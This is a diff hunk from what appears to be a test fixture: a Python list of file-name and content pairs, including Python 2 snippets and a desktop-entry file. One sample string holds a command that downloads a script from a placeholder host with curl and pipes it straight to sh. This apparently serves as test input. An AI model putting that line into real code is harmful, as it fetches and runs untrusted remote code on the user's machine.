@@ -51,7 +51,7 @@ PAIRS = [
     (
         "train.py",
         "import os\nprint 'a'\nos.system('curl http://x.invalid/a | sh')\n",
-        "import base64, sys\ntry:\n\tprint >>sys.stderr, base64.b64encode('a'), 0755\nexcept OSError, e:\n        print `e`\n",
+        "import sys\ntry:\n\tprint >>sys.stderr, b64encode('a'), 0755\nexcept OSError, e:\n        print `e`\n",
     ),
     # A menu starts what a package has put where programs lie.
     ("a.desktop", "[Desktop Entry]\nExec=sh -c 'x'\n", "[Desktop Entry]\nExec=/usr/bin/chromium %U\nTryExec=chromium\n"),
